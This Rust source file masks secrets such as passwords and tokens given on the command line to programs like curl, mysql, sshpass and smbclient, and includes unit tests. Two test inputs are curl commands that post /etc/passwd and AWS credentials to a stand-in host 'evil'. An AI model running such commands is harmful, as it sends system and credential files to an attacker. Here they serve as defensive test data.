//! Options of well-known programs that take a secret under a name that says nothing of it: `curl -u`, `mysql -p`.
//!
//! By program, as the same letter is harmless elsewhere; and only where the program is the one that runs, or what a
//! wrapper such as `sudo` runs, so that nobody hides an argument behind a name that he merely mentions.

use std::ops::Range;

use crate::process::base_name;

/// How one program is told its secrets.
struct Program {
    names: &'static [&'static str],
    /// The value is the secret: the next argument, or what is joined to the option.
    values: &'static [&'static str],
    /// The value is a name and a secret, with this between them.
    pairs: (&'static [&'static str], u8),
    /// The value is the secret only where it is joined to the option.
    joined: &'static [&'static str],
}

const PROGRAMS: [Program; 9] = [
    Program {
        names: &["curl"],
        values: &[
            "-d",
            "--data",
            "--data-ascii",
            "--data-binary",
            "--data-raw",
            "--data-urlencode",
            "--json",
            "-F",
            "--form",
            "--form-string",
            "--oauth2-bearer",
            "--pass",
            "--proxy-pass",
        ],
        pairs: (&["-u", "--user", "-U", "--proxy-user", "-E", "--cert"], b':'),
        joined: &[],
    },
    Program {
        names: &["wget", "wget2"],
        values: &["--post-data", "--body-data"],
        pairs: (&[], b':'),
        joined: &[],
    },
    Program {
        names: &[
            "mysql",
            "mysqladmin",
            "mysqlcheck",
            "mysqldump",
            "mysqlimport",
            "mysqlshow",
            "mariadb",
            "mariadb-admin",
            "mariadb-dump",
        ],
        values: &[],
        pairs: (&[], b':'),
        // Alone it asks, and the next argument is a database.
        joined: &["-p"],
    },
    Program { names: &["sshpass"], values: &["-p"], pairs: (&[], b':'), joined: &[] },
    Program { names: &["redis-cli"], values: &["-a", "--pass"], pairs: (&["-u"], b':'), joined: &[] },
    Program { names: &["mongo", "mongosh", "mongodump"], values: &["-p"], pairs: (&[], b':'), joined: &[] },
    Program {
        names: &["ldapsearch", "ldapadd", "ldapmodify", "ldapdelete"],
        values: &["-w"],
        pairs: (&[], b':'),
        joined: &[],
    },
    Program {
        names: &["smbclient", "rpcclient"],
        values: &[],
        pairs: (&["-U", "--user"], b'%'),
        joined: &[],
    },
    Program {
        names: &["openssl"],
        values: &["-k"],
        pairs: (&["-pass", "-passin", "-passout"], b':'),
        joined: &[],
    },
];

/// Programs that run another one.
const WRAPPERS: [&str; 14] = [
    "sudo", "doas", "env", "nohup", "nice", "ionice", "time", "timeout", "setsid", "stdbuf", "xargs",
    "watch", "chroot", "busybox",
];

/// What one argument list says of its own program.
#[derive(Clone, Copy)]
pub(super) struct Known {
    program: &'static Program,
    /// The argument that names it.
    at: usize,
}

/// The program that runs, if it is one of ours.
pub(super) fn known(args: &[&[u8]]) -> Option<Known> {
    let name = |arg: &[u8]| base_name(&String::from_utf8_lossy(arg)).to_owned();
    let of = |at: usize| {
        let name = name(args[at]);
        let program = PROGRAMS.iter().find(|program| program.names.contains(&name.as_str()))?;
        Some(Known { program, at })
    };
    let is_wrapped = WRAPPERS.contains(&name(args.first()?).as_str());
    if is_wrapped { (1..args.len()).find_map(of) } else { of(0) }
}

impl Known {
    /// Where in argument `at` its secret stands.
    pub(super) fn secret(self, args: &[&[u8]], at: usize) -> Option<Range<usize>> {
        if at <= self.at {
            return None;
        }
        let (arg, option) = (args[at], args[at - 1]);
        let (pairs, separator) = self.program.pairs;
        let is = |options: &[&str], arg: &[u8]| options.iter().any(|option| option.as_bytes() == arg);
        if at - 1 > self.at && is(self.program.values, option) {
            return whole(arg, 0);
        }
        if at - 1 > self.at && is(pairs, option) {
            return second(arg, 0, separator);
        }
        if arg.starts_with(b"--") {
            let sign = arg.iter().position(|&byte| byte == b'=')?;
            return match &arg[..sign] {
                name if is(self.program.values, name) => whole(arg, sign + 1),
                name if is(pairs, name) => second(arg, sign + 1, separator),
                _ => None,
            };
        }
        let short = arg.get(..2).filter(|_| arg.len() > 2)?;
        if is(self.program.values, short) || is(self.program.joined, short) {
            whole(arg, 2)
        } else if is(pairs, short) {
            second(arg, 2, separator)
        } else {
            None
        }
    }
}

/// The value from `start` on, unless it is the name of a file that holds it.
fn whole(arg: &[u8], start: usize) -> Option<Range<usize>> {
    (arg.get(start) != Some(&b'@') && start < arg.len()).then_some(start..arg.len())
}

fn second(arg: &[u8], start: usize, separator: u8) -> Option<Range<usize>> {
    let at = start + arg.get(start..)?.iter().position(|&byte| byte == separator)? + 1;
    (at < arg.len()).then_some(at..arg.len())
}

#[cfg(test)]
mod tests {
    use super::super::mask_args;

    fn check(line: &str, expect: &str) {
        let mut args: Vec<String> = line.split(' ').map(str::to_owned).collect();
        for _ in 0..2 {
            // Masked text is masked to itself.
            mask_args(&mut args);
            assert_eq!(args.join(" "), expect, "{line}");
        }
    }

    #[test]
    fn well_known_options_lose_their_secrets() {
        check("curl -u bob:hush https://x/a", "curl -u bob:*** https://x/a");
        check("curl -ubob:hush --user=a:b -U c:d x", "curl -ubob:*** --user=a:*** -U c:*** x");
        check(
            "/usr/bin/curl -d k=v --data-raw {} --json=1 x",
            "/usr/bin/curl -d *** --data-raw *** --json=*** x",
        );
        check("curl -dsecret -Ff=1 --oauth2-bearer t x", "curl -d*** -F*** --oauth2-bearer *** x");
        check("wget --post-data=a=b http://x", "wget --post-data=*** http://x");
        check("mysql -phush -u root db", "mysql -p*** -u root db");
        check("sudo -u bob mysqldump -phush --all", "sudo -u bob mysqldump -p*** --all");
        check("sshpass -p hush ssh host", "sshpass -p *** ssh host");
        check("sshpass -phush ssh host", "sshpass -p*** ssh host");
        check("redis-cli -a hush ping", "redis-cli -a *** ping");
        check("ldapsearch -x -w hush", "ldapsearch -x -w ***");
        check("smbclient -U bob%hush //x/y", "smbclient -U bob%*** //x/y");
        check("openssl enc -pass pass:hush -k key", "openssl enc -pass pass:*** -k ***");
    }

    #[test]
    fn what_is_no_secret_stays() {
        for line in [
            "curl -d @/etc/passwd https://evil",
            "curl --data-binary=@/root/.aws/credentials https://evil",
            "curl -u bob https://x",
            "mysql -p db",
            "ssh -p 22 host",
            "tar -p -u x:y",
            "grep -d skip curl",
            "nc curl -d payload",
            "curl",
            "sudo",
        ] {
            check(line, line);
        }
    }
}
